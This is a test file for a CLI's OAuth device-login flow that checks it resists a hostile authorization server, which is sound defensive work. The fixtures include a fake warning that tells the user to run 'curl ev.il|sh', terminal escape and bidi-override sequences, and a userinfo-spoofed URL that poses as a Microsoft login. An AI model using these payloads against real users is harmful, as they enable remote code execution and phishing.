// A hostile authorization server in the device flow (RFC 8628): what it says the user should type
// and open reaches the user's terminal. A user_code with newlines and escape sequences must not
// print lines of its own (one looking like mcp-cli's own warning), a code or a URI too long to type
// is refused, a URI that reads as another site (user information before the host) is refused, and
// the message names the authorization server that asks.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Sandbox } from '../helpers/cli.js';
import { createOAuthSandbox } from '../helpers/oauth-cli.js';
import type { DeviceOptions } from '../helpers/oauth-grants.js';
import { startOAuthServers, type OAuthServers } from '../helpers/oauth-servers.js';

const HEADLESS = { BROWSER: undefined, MCP_CLI_BROWSER: undefined, DISPLAY: undefined, WAYLAND_DISPLAY: undefined };
const FAKE_WARNING = '⚠ mcp-cli: store damaged; run curl ev.il|sh';

describe('a hostile device flow server', () => {
  const device: DeviceOptions = { interval: 1 };
  let servers: OAuthServers;
  let sandbox: Sandbox;
  beforeAll(async () => {
    servers = await startOAuthServers({ device });
    sandbox = await createOAuthSandbox({ notes: { url: servers.mcpUrl } });
  });
  afterAll(async () => {
    await servers?.close();
    await sandbox?.cleanup();
  });

  /** A device login that the server's page then refuses, so that it ends at once. */
  async function deviceLogin() {
    const index = servers.devices.length;
    const login = sandbox.run(['auth', 'login', 'notes', '--device', '--timeout', '15s'], { env: HEADLESS });
    const issued = Promise.race([
      login.then(() => undefined),
      expect.poll(() => servers.devices[index] !== undefined, { timeout: 15_000, interval: 50 }).toBe(true),
    ]);
    await issued;
    const code = servers.devices[index]?.userCode;
    if (code !== undefined) await fetch(`${servers.origin}/device?user_code=${encodeURIComponent(code)}&deny=1`);
    return { result: await login, polled: servers.devices[index]?.polls.length ?? 0 };
  }

  it('shows a user_code with newlines and escape sequences as one escaped line, and names the issuer', async () => {
    device.present = { userCode: `WDJB-MJHT\n${FAKE_WARNING}\u001b[2J\u202e` };
    const { result } = await deviceLogin();
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`To log in to 'notes' (authorization server ${servers.issuer}), open this URL on any device with a browser:`);
    expect(result.stderr).toContain(`and enter the code:  WDJB-MJHT\\u000a${FAKE_WARNING}\\u001b[2J\\u202e\n`);
    // No line of the output starts with the server's text, and no control character reaches the terminal.
    expect(result.stderr.split('\n').some((line) => line.startsWith('⚠'))).toBe(false);
    for (const control of ['\u001b', '\u202e']) expect(result.stderr).not.toContain(control);
    expect(result.stderr).toContain(`the login to 'notes' was refused on the device (access_denied)`);
  });

  it('refuses a user_code too long to type, before polling', async () => {
    device.present = { userCode: `${'A'.repeat(40)} ${FAKE_WARNING} ${'B'.repeat(200)}` };
    const { result, polled } = await deviceLogin();
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `the authorization server ${servers.issuer} sent a user_code of 285 characters for 'notes'; refusing it (a code to type has at most 64)`,
    );
    expect(result.stderr).not.toContain(FAKE_WARNING);
    expect(polled).toBe(0);
  });

  it('refuses a verification_uri with user information before the host, which reads as another site', async () => {
    const port = new URL(servers.origin).port;
    device.present = { verificationUri: `http://login.microsoftonline.com@127.0.0.1:${port}/device` };
    const { result, polled } = await deviceLogin();
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `the authorization server ${servers.issuer} sent a verification_uri for 'notes' with user information before its host (http://127.0.0.1:${port}/device), which makes it read as another site; refusing it`,
    );
    expect(result.stderr).not.toContain('login.microsoftonline.com');
    expect(polled).toBe(0);
  });

  it('refuses a verification_uri or verification_uri_complete too long to show', async () => {
    for (const present of [
      { verificationUri: `${servers.origin}/device?${'x'.repeat(600)}` },
      { verificationUriComplete: `${servers.origin}/device?user_code=${'x'.repeat(1100)}` },
    ]) {
      device.present = present;
      const { result, polled } = await deviceLogin();
      const field = present.verificationUri ? 'verification_uri' : 'verification_uri_complete';
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(new RegExp(`sent a ${field} of \\d+ characters for 'notes'; refusing it`));
      expect(result.stderr).not.toContain('x'.repeat(100));
      expect(polled).toBe(0);
    }
  });
});
